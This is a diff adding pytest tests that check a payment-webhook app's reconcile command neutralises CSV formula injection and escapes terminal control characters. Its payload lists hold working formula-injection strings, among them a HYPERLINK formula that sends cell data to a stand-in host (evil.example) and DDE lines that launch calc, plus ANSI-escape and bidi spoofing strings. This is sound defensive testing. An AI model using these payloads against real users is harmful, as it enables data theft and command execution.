@@ -1,0 +1,178 @@
+"""Identifiers from webhook bodies in ``payhooks reconcile``: neutralised in CSV, escaped in
+the table, exact in JSON Lines.
+
+The hostile identifiers arrive the way an attacker with a merchant account would send them: as
+real notifications, signed with the receiver's secret, through the app's endpoint.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from flask.testing import FlaskClient
+from payhooks.receiver.cli.escaping import FORMULA_TRIGGERS, csv_field, json_line, terminal_text
+from payhooks.receiver.cli.reports import NUMERIC_FIELDS, REPORT_FIELDS, write_report
+from payhooks.storage import ReconciliationRow, ReconciliationState
+
+from tests.support.app import BodyFactory, SignFunction
+from tests.support.cli import clean_env, json_lines, run
+
+__all__ = ["clean_env"]
+
+pytestmark = pytest.mark.usefixtures("clean_env")
+
+#: Identifiers a spreadsheet would run as formulas (OWASP's list of first characters).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+#: Identifiers that would drive a terminal or draw a row of their own in the table.
+TERMINAL = [
+    "\x1b[2J\x1b[31mpaid\x1b[0m",
+    "order-9\norder-1  transaction  paid  CNY  25.00  25.00  1  ll-1",
+    "order-\u202e1-gnp",
+    "back\\slash\x07bell\x7f",
+    "line\u2028separator\x85next",
+]
+
+HOSTILE = FORMULAS + TERMINAL
+
+
+@pytest.fixture
+def hostile_ledger(
+    client: FlaskClient, sign: SignFunction, make_body: BodyFactory, database: Path
+) -> Path:
+    """Every hostile identifier as an unexpected payment, each with a hostile transaction id
+    too, received as signed notifications through the endpoint."""
+    for number, identifier in enumerate(HOSTILE):
+        body = make_body(external_identifier=identifier, transaction_id=f"=1+{number}")
+        response = client.post("/payhooks/notifications", data=body, headers=sign(body))
+        assert response.status_code == 200, response.get_json()
+    return database
+
+
+def _reconcile(database: Path, report_format: str) -> str:
+    result = run(["reconcile", "--format", report_format, "--database", str(database)])
+    assert result.exit_code == 0, result.output
+    return result.stdout
+
+
+def test_csv_neutralises_formula_cells_and_a_csv_reader_gets_them_back_quoted(
+    hostile_ledger: Path,
+) -> None:
+    text = _reconcile(hostile_ledger, "csv")
+
+    rows = list(csv.DictReader(io.StringIO(text)))
+    identifiers = {row["external_identifier"] for row in rows}
+    assert identifiers == {"'" + value for value in FORMULAS} | set(TERMINAL)
+    assert {row["transaction_ids"] for row in rows} == {f"'=1+{n}" for n in range(len(HOSTILE))}
+    for row in rows:
+        for name in REPORT_FIELDS:
+            if name not in NUMERIC_FIELDS:
+                assert row[name][:1] not in FORMULA_TRIGGERS, (name, row[name])
+    # OWASP: the neutralised cell is also quoted, so no spreadsheet splits or trims it.
+    assert '"\'-2+3",' in text
+    assert text.startswith(",".join(REPORT_FIELDS) + "\n")
+
+
+def test_the_table_shows_control_characters_as_escapes_one_line_per_row(
+    hostile_ledger: Path,
+) -> None:
+    text = _reconcile(hostile_ledger, "table")
+
+    table, totals = text.split("\n\n")
+    assert not any(char in text for char in "\x1b\x07\x7f\x85\r\t\u2028\u202e")
+    assert len(table.splitlines()) == 1 + len(HOSTILE)
+    assert "\\x1b[2J\\x1b[31mpaid\\x1b[0m" in table
+    assert "order-9\\norder-1  transaction" in table
+    assert "order-\\u202e1-gnp" in table
+    assert "back\\\\slash\\x07bell\\x7f" in table
+    assert "line\\u2028separator\\x85next" in table
+    assert totals.splitlines()[1].split()[:3] == ["CNY", "unexpected", str(len(HOSTILE))]
+
+
+def test_json_lines_keep_every_identifier_exact_one_record_per_line(hostile_ledger: Path) -> None:
+    text = _reconcile(hostile_ledger, "json")
+
+    # splitlines() breaks on U+2028, U+0085 and more: each record must still be one line.
+    records = json_lines(text)
+    assert len(text.splitlines()) == len(HOSTILE)
+    assert {record["external_identifier"] for record in records} == set(HOSTILE)
+
+
+@pytest.mark.parametrize(
+    ("value", "text", "written"),
+    [
+        ("-5.00", False, "-5.00"),
+        ("-5.00", True, '"\'-5.00"'),
+        ("=1+1", True, '"\'=1+1"'),
+        ('@a"b', True, '"\'@a""b"'),
+        ("a,b", True, '"a,b"'),
+        ("a\nb", True, '"a\nb"'),
+        ("order-1", True, "order-1"),
+        ("", True, ""),
+        (None, True, ""),
+    ],
+    ids=repr,
+)
+def test_csv_field_neutralises_text_only(value: str | None, text: bool, written: str) -> None:
+    assert csv_field(value, text=text) == written
+
+
+def test_a_negative_amount_stays_a_number_in_csv() -> None:
+    """The ledger stores no negative amount today; should a report ever carry one (a net of
+    refunds), it is a number to add up, and the CSV leaves it unquoted and unprefixed."""
+    row = ReconciliationRow(
+        external_identifier="-order",
+        kind=None,
+        state=ReconciliationState.UNEXPECTED,
+        currency="CNY",
+        expected_amount_minor=None,
+        received_currency="CNY",
+        received_amount_minor=-500,
+        opened_at=datetime(2026, 11, 21, tzinfo=UTC),
+        lifecycle_state=None,
+        periods_paid=1,
+        transaction_ids=("ll-1",),
+        unknown_outcomes=0,
+        last_outcome_at=None,
+    )
+    out = io.StringIO()
+
+    write_report([row], out, "csv")
+
+    line = out.getvalue().splitlines()[1]
+    assert line.startswith('"\'-order",,unexpected,CNY,,CNY,-5.00,1,ll-1,')
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        ("order-1", "order-1"),
+        ("订单 1", "订单 1"),
+        ("a\x00b", "a\\x00b"),
+        ("\x1b]0;title\x07", "\\x1b]0;title\\x07"),
+        ("a\r\nb", "a\\r\\nb"),
+        ("\u2066x\u2069", "\\u2066x\\u2069"),
+        ("\\x1b", "\\\\x1b"),
+    ],
+    ids=repr,
+)
+def test_terminal_text_escapes_controls_visibly_and_unambiguously(value: str, shown: str) -> None:
+    assert terminal_text(value) == shown
+
+
+def test_json_line_escapes_the_line_breaks_json_leaves_raw() -> None:
+    line = json_line({"id": "a\u2028b\u2029c\x85d\ne"})
+
+    assert line == '{"id":"a\\u2028b\\u2029c\\u0085d\\ne"}'
+    assert line.splitlines() == [line]
